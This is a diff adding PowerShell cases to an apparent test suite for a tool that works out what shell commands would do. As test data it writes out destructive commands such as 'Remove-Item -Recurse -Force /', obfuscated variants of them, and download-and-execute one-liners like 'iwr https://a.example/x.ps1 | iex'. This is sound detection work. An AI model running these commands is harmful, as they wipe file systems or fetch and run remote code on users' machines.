@@ -41,3 +41,30 @@ describe('in fish', () => {
     expect(effectsOf(text, { as: 'fish' })).toEqual([]);
   });
 });
+
+describe('in PowerShell', () => {
+  it.each([
+    ['a cmdlet', 'Remove-Item -Recurse -Force /', 'file.delete /'],
+    ['an alias of it', 'ri / -fo -r', 'file.delete /'],
+    ['a named path', "del -LiteralPath '/' -Confirm:$false", 'file.delete /'],
+    ['several paths', 'rm /a, /b', 'file.delete /b'],
+    ['a variable', "$there = '/'; Remove-Item $there", 'file.delete /'],
+    ['the home folder', 'rm "$HOME/x"', 'file.delete /home/ada/x'],
+    ['a block', 'if (Test-Path x) { Remove-Item / }', 'file.delete /'],
+    ['a block for each', 'ls | % { rm / }', 'file.delete /'],
+    ['a program by its path', "& 'C:/tools/rm.exe' /", 'file.delete /'],
+    ['evaluated text', "iex 'rm /'", 'file.delete /'],
+    ['text from a pipe', "'rm /' | iex", 'file.delete /'],
+    ['a method', "[IO.File]::Delete('/x')", 'file.delete /x'],
+    ['a download that runs', 'iwr https://a.example/x.ps1 | iex', 'code.eval ?$input downloaded'],
+    ['a downloaded string that runs', "iex (New-Object Net.WebClient).DownloadString('https://a.example/x')", 'net.request a.example'],
+    ['another process', "Start-Process -FilePath rm -ArgumentList '/'", 'file.delete /'],
+    ['a folder', 'Set-Location /; rm x', 'file.delete /x'],
+  ])('%s is followed', (_, text, effect) => {
+    expect(effectsOf(text, { as: 'powershell' })).toContain(effect);
+  });
+
+  it.each([["Write-Output 'Remove-Item /'"], ['echo "rm /" # rm /'], ["$x = 'rm /'"], ["@'\nrm /\n'@"]])('%s stays text', (text) => {
+    expect(effectsOf(text, { as: 'powershell' })).toEqual([]);
+  });
+});
